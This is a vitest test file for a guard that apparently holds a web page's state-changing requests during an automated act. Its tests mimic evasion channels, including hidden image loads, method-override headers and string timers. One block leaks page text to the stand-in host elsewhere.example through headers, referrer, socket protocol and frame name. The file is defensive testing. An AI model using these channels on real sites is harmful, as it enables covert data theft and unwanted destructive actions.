/** The hold on requests reaches frames of the page's own, sockets, pictures, buttons with values and bodies of bytes. */
import { afterEach, beforeEach, expect, test } from 'vitest';
import { setsState } from '../../lib/guard/service-acts';
import { leavesPage } from '../../lib/page/dom/elsewhere';
import { answerJudge } from '../../lib/page/session/answer-judge';
import { codeSends } from '../../lib/page/session/worker-code';
import { HELD_REQUESTS, HOLD_BEGINS, HOLD_ENDS, STOPPED_LATE } from '../../lib/page/world/hold-events';
import { PostponedRequests } from '../../lib/page/world/postponed';
import { holdRequests } from '../../lib/page/world/requests';

interface End {
  held: { method: string; address: string; body: string; bodyHash: string }[];
  hasSent: boolean;
}
Object.assign(answerJudge(document), { worker: codeSends, leavesPage, setsState });
holdRequests(window, new PostponedRequests(window));
const begin = (scope: object = {}) =>
  document.dispatchEvent(
    new CustomEvent(HOLD_BEGINS, { detail: JSON.stringify({ origins: [], announced: [], ...scope }) }),
  );
function end(): End {
  let answer: End = { held: [], hasSent: false };
  const hear = (event: Event) => {
    answer = JSON.parse(String((event as CustomEvent<unknown>).detail)) as End;
  };
  document.addEventListener(HELD_REQUESTS, hear, { once: true });
  document.dispatchEvent(new Event(HOLD_ENDS));
  return answer;
}

const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** Requests that left, by stand-ins for the network. */
let left: string[] = [];
const network = (view: Window) => {
  view.fetch = async (target: RequestInfo | URL) => {
    left.push(String(target));
    return new Response('');
  };
};
const realFetch = window.fetch;
beforeEach(() => {
  left = [];
  network(window);
});
afterEach(() => {
  // The first ends the hold of the test, the second what goes on of it.
  end();
  end();
  window.fetch = realFetch;
  document.body.innerHTML = '';
});
const addFrame = () => {
  const frame = document.createElement('iframe');
  document.body.append(frame);
  return frame;
};

test('holds a request of a frame that was there before', async () => {
  const view = addFrame().contentWindow as Window;
  network(view);
  begin();
  void view.fetch('/api/delete', { method: 'POST' }).catch(() => undefined);
  await view.fetch('/api/rows');
  expect(end().held.map(({ address }) => new URL(address).pathname)).toEqual(['/api/delete']);
  expect(left).toEqual(['/api/rows']);
  end();
  await view.fetch('/api/delete', { method: 'POST' });
  expect(left).toEqual(['/api/rows', '/api/delete']);
});

test('stops an act that is sent after the hold without a question, and nothing else', async () => {
  begin({ isQuiet: true });
  end();
  await window.fetch('/api/notes/7', { method: 'PATCH', body: '{"title":"x"}' });
  await expect(window.fetch('/api/delete', { method: 'POST' })).rejects.toThrow();
  expect(left).toEqual(['/api/notes/7']);
});

test('tells of what it stops after the hold', async () => {
  const heard: unknown[] = [];
  const hear = (event: Event) => void heard.push(JSON.parse(String((event as CustomEvent<unknown>).detail)));
  document.addEventListener(STOPPED_LATE, hear);
  begin();
  void window.fetch('/api/rows/1', { method: 'DELETE' }).catch(() => undefined);
  end();
  await window.fetch('/api/rows/2', { method: 'PUT' });
  await window.fetch('/api/rows/3', { method: 'delete' }).catch(() => undefined);
  document.removeEventListener(STOPPED_LATE, hear);
  expect(heard).toEqual([{ method: 'DELETE', address: `${location.origin}/api/rows/3` }]);
});

test('lets all requests leave after the hold of an act that announced one', async () => {
  begin({ announced: [`POST ${location.origin}/pay`] });
  end();
  await window.fetch('/api/delete', { method: 'POST' });
  expect(left).toEqual(['/api/delete']);
});

test('lets requests pass once the hold is over, though the page has wrapped fetch meanwhile', async () => {
  begin({ isQuiet: true });
  const wrapped = window.fetch;
  window.fetch = (...args) => wrapped(...args);
  // Another act begins before the first was looked at.
  begin();
  await window.fetch('/api/page', { method: 'POST', body: '2' });
  expect(left).toEqual(['/api/page']);
  void window.fetch('/api/delete', { method: 'POST' }).catch(() => undefined);
  expect(end().held.map(({ address }) => new URL(address).pathname)).toEqual(['/api/delete']);
});

test('stops a load by key frames, by a rule within a query and by the style of a rule', async () => {
  const style = document.createElement('style');
  style.textContent = '@media all{p{margin:1px}} p{margin:2px}';
  document.head.append(style);
  const [query, rule] = style.sheet?.cssRules ?? [];
  begin();
  document.body.animate([{ backgroundImage: 'url(/api/rows/1/delete)' }, { backgroundImage: 'none' }], 100);
  (query as CSSMediaRule).insertRule('body{background:url(/api/rows/2/delete)}');
  (rule as CSSStyleRule).style.backgroundImage = 'url(/api/rows/3/delete)';
  await Promise.resolve();
  document.body.animate([{ opacity: 0.5 }, { opacity: 1 }], 10);
  expect(end().held.map(({ address }) => new URL(address).pathname)).toEqual([
    '/api/rows/1/delete',
    '/api/rows/2/delete',
    '/api/rows/3/delete',
  ]);
  expect((rule as CSSStyleRule).style.backgroundImage).toBe('');
  style.remove();
});

test('holds a request of a frame that is made for it', async () => {
  begin();
  const view = addFrame().contentWindow as Window;
  void view.fetch('/api/users/7/delete', { method: 'POST' }).catch(() => undefined);
  expect(end().held.length).toBe(1);
});

test('reads a request that was made in a frame', async () => {
  const view = addFrame().contentWindow as Window & typeof globalThis;
  begin();
  const request = new view.Request(`${location.origin}/api/publish`, { method: 'PUT' });
  void window.fetch(request).catch(() => undefined);
  expect(end().held.map(({ method }) => method)).toEqual(['PUT']);
});

test.each<[what: string, body: BodyInit, isHeld: boolean]>([
  ['bytes that name an act', new TextEncoder().encode('{"action":"delete"}'), true],
  ['a buffer that names an act', new TextEncoder().encode('{"action":"transfer_funds"}').buffer as ArrayBuffer, true],
  ['bytes that name none', new TextEncoder().encode('{"action":"list"}'), false],
])('reads a body of %s', async (_, body, isHeld) => {
  begin();
  void window.fetch('/api/rpc', { method: 'POST', body }).catch(() => undefined);
  expect(end().held.length).toBe(isHeld ? 1 : 0);
});

test('counts the value of the button that submits', () => {
  document.body.innerHTML =
    '<form method="post" action="/api/rows"><button id="s" name="action" value="save">a</button><button id="d" name="action" value="delete">b</button></form>';
  const form = document.querySelector('form') as HTMLFormElement;
  begin();
  form.requestSubmit(document.querySelector<HTMLButtonElement>('#d'));
  expect(end().held.map(({ body }) => body)).toEqual(['action=delete']);
});

test('holds a message over an open socket that names an act, and no other', () => {
  const socket = new WebSocket('ws://127.0.0.1:9/feed?token=4');
  begin();
  expect(socket.send('{"action":"delete","id":7}')).toBeUndefined();
  // A socket that is not open yet throws if the message gets through.
  expect(() => socket.send('{"type":"ping"}')).toThrow();
  expect(end().held.map(({ method }) => method)).toEqual(['SEND']);
  socket.close();
});

test('holds what is posted to a site that the page has loaded nothing of, and nothing that only measures', () => {
  begin();
  const post = (address: string) =>
    void window.fetch(address, { method: 'POST', mode: 'no-cors', body: 'milk' }).catch(() => undefined);
  post('http://other.invalid/box');
  post('http://other.invalid/collect');
  post('/box');
  begin({ origins: ['http://granted.invalid'] });
  post('http://granted.invalid/box');
  expect(end().held).toEqual([]);
  begin();
  post('http://other.invalid/box');
  expect(end().held.map(({ address }) => address)).toEqual(['http://other.invalid/box']);
});

test('holds a picture whose address is an act', () => {
  begin();
  new Image().src = '/account/logout';
  new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
  expect(end().held.map(({ address }) => new URL(address).pathname)).toEqual(['/account/logout']);
});

test.each<[what: string, add: (markup: string) => void]>([
  ['innerHTML', (markup) => Object.assign(document.body, { innerHTML: markup })],
  ['insertAdjacentHTML', (markup) => document.body.insertAdjacentHTML('beforeend', markup)],
])('holds markup added by %s that loads an address which is an act', (_, add) => {
  begin();
  add('<p>a</p><img alt="x" src="/rows/delete?id=3">');
  add('<div><iframe width=1 src=/logout></iframe></div>');
  add('<p>b</p><img src="/icons/delete.svg"><a href="/logout">Leave</a>');
  expect(end().held.map(({ address }) => new URL(address).pathname)).toEqual(['/rows/delete', '/logout']);
  expect(document.body.textContent).toContain('b');
  expect(document.querySelectorAll('iframe')).toHaveLength(0);
});

test('holds a request that was opened before the act, for nothing tells what it is', () => {
  const request = new XMLHttpRequest();
  request.open('DELETE', '/rows/7');
  begin();
  request.send();
  expect(end().held.map(({ method }) => method)).toEqual(['SEND']);
});

test('a quiet act may send searches and measurements, and nothing that may change state', async () => {
  begin({ isQuiet: true });
  await window.fetch('/api/search', { method: 'POST', body: '{"q":"rye"}' });
  void window.fetch('/api/notes/7', { method: 'PATCH', body: '{"title":"x"}' }).catch(() => undefined);
  const { held, hasSent } = end();
  expect([held.map(({ method }) => method), hasSent, left]).toEqual([['PATCH'], false, ['/api/search']]);
});

test('a quiet act sends no form by POST, though its address sounds like a search', () => {
  document.body.innerHTML = '<form method="post" action="/check-charges"><input name="c" value="on"></form>';
  const form = document.forms[0] as HTMLFormElement;
  const before = HTMLFormElement.prototype.submit;
  begin({ isQuiet: true });
  form.submit();
  expect(end().held.map(({ method, address }) => `${method} ${new URL(address).pathname}`)).toEqual([
    'POST /check-charges',
  ]);
  end();
  expect(HTMLFormElement.prototype.submit).toBe(before);
});

test('says that something was sent which may change state', async () => {
  begin();
  await window.fetch('/api/notes/7', { method: 'PATCH', body: '{"title":"x"}' });
  expect(end()).toMatchObject({ held: [], hasSent: true });
});

test('lets a confirmed request leave with the same content only', async () => {
  begin();
  void window.fetch('/pay', { method: 'POST', body: 'to=Ann&amount=5' }).catch(() => undefined);
  const [first] = end().held;
  const announced = [`POST ${location.origin}/pay ${first?.bodyHash}`];
  begin({ announced });
  await window.fetch('/pay', { method: 'POST', body: 'to=Ann&amount=5' });
  void window.fetch('/pay', { method: 'POST', body: 'to=Eve&amount=5' }).catch(() => undefined);
  expect(end().held.map(({ body }) => body)).toEqual(['to=Eve&amount=5']);
  expect(left).toEqual(['/pay']);
});

const ACT = JSON.stringify({ action: 'delete', id: 7 });
const post = (body: BodyInit, headers: Record<string, string> = {}) =>
  window.fetch('/api', { method: 'POST', body, headers }).catch(() => undefined);
const formWithFile = () => {
  const data = new FormData();
  data.append('json', new File([ACT], 'blob'));
  return data;
};
const SENDS: Readonly<Record<string, () => unknown>> = {
  'a blob': () => post(new Blob([ACT])),
  'a blob of bytes': () => post(new Blob([new TextEncoder().encode(ACT)])),
  'a file in a form': () => post(formWithFile()),
  'bytes in another array': () => post(new DataView(new TextEncoder().encode(ACT).buffer)),
  'a request made of a request': () =>
    window.fetch(new Request(new Request('/api', { method: 'POST', body: ACT }))).catch(() => undefined),
  'a copy of a request': () =>
    window.fetch(new Request('/api', { method: 'POST', body: ACT }).clone()).catch(() => undefined),
  'a method in a header': () => post('{}', { 'X-HTTP-Method': 'DELETE' }),
  'a method in another header': () => post('{}', { 'X-Method-Override': 'DELETE' }),
  'a beacon of a blob': () => navigator.sendBeacon('/api', new Blob([ACT])),
  'a sound': () => new Audio('/rows/delete?id=7'),
  'a set of pictures': () => {
    new Image().srcset = '/rows/delete?id=7 2x';
  },
  'a copy of a template': () => {
    const template = document.createElement('template');
    template.content.append(
      new DOMParser().parseFromString('<img src="/rows/delete?id=7">', 'text/html').body.firstChild ?? '',
    );
    document.body.append(template.content.cloneNode(true));
  },
  'markup that was parsed apart': () =>
    document.body.append(
      ...new DOMParser().parseFromString('<img src="/rows/delete?id=7">', 'text/html').body.childNodes,
    ),
  'a fragment of a range': () =>
    document.body.append(document.createRange().createContextualFragment('<img src="/rows/delete?id=7">')),
  'an empty window': () => window.open('about:blank'),
};

test.each(Object.entries(SENDS))('holds %s', (_, send) => {
  begin();
  try {
    void send();
  } catch (error) {
    if (!(error instanceof DOMException)) throw error;
  }
  expect([end().held.length, left]).toEqual([1, []]);
});

test('a request that was made before the act is held: nothing tells what it is for', () => {
  const kept = new Request('/api', { method: 'POST', body: '{}' });
  begin();
  void window.fetch(kept).catch(() => undefined);
  expect([end().held.map(({ method }) => method), left]).toEqual([['SEND'], []]);
});

test('files and requests that name no act leave', async () => {
  begin();
  await post(new Blob(['{"title":"rye"}']));
  await window.fetch(new Request('/api/rows'));
  expect([end().held, left.length]).toEqual([[], 2]);
});

test('a timer of an act that is given as text, or sets others, deletes nothing after the hold', async () => {
  begin();
  Reflect.apply(window.setTimeout, window, ["fetch('/rows/7', {method: 'DELETE'}).catch(() => 0)", 60]);
  let count = 0;
  const tick = () => {
    count += 1;
    if (count < 3) window.setTimeout(() => tick(), 30);
    else void window.fetch('/rows/8', { method: 'DELETE' }).catch(() => undefined);
  };
  window.setTimeout(() => tick(), 30);
  end();
  await pause(200);
  expect([count, left]).toEqual([3, []]);
});

const NOTE = 'The spare key lies below the third pot, and the cat is fed at six each evening.';
test.each<[how: string, send: () => unknown]>([
  ['a header of a request', () => window.fetch('https://elsewhere.example/p', { headers: { accept: NOTE } })],
  [
    'the page that a request says it comes from',
    () =>
      window.fetch('https://elsewhere.example/p', {
        referrer: `/?d=${encodeURIComponent(NOTE)}`,
        referrerPolicy: 'unsafe-url',
      }),
  ],
  [
    'the protocol of a connection',
    () => new WebSocket('wss://elsewhere.example/p', NOTE.toLowerCase().replace(/[^a-z]+/g, '-')),
  ],
  [
    'the name of a frame',
    () => {
      const frame = document.createElement('iframe');
      frame.name = NOTE;
      frame.src = 'https://elsewhere.example/p';
      return frame;
    },
  ],
  [
    'a header of the older request',
    () => {
      const request = new XMLHttpRequest();
      request.open('GET', 'https://elsewhere.example/p');
      request.setRequestHeader('accept', NOTE);
      request.send();
    },
  ],
])('holds text of the page that leaves by %s', (_, send) => {
  document.body.innerHTML = `<p>${NOTE}</p>`;
  begin();
  try {
    void Promise.resolve(send()).catch(() => undefined);
  } catch {
    // A constructor that is stopped throws.
  }
  expect(end().held.map(({ address }) => new URL(address).host)).toEqual(['elsewhere.example']);
});

test('holds what sets the state of a thing only where the control looks or goes on', async () => {
  begin();
  await window.fetch('/api/cases/7/archive', { method: 'POST' });
  expect(end().held).toEqual([]);
  begin({ looks: true });
  void window.fetch('/api/cases/7/archive', { method: 'POST' }).catch(() => undefined);
  expect(end().held).toHaveLength(1);
});

test('holds a form whose event goes no further', () => {
  document.body.innerHTML =
    '<iframe name="k"></iframe><form method="post" target="k" action="/api/rows/7/delete"></form>';
  document.addEventListener('submit', (event) => event.stopImmediatePropagation(), { capture: true, once: true });
  begin();
  document.forms[0]?.requestSubmit();
  expect(end().held).toHaveLength(1);
});
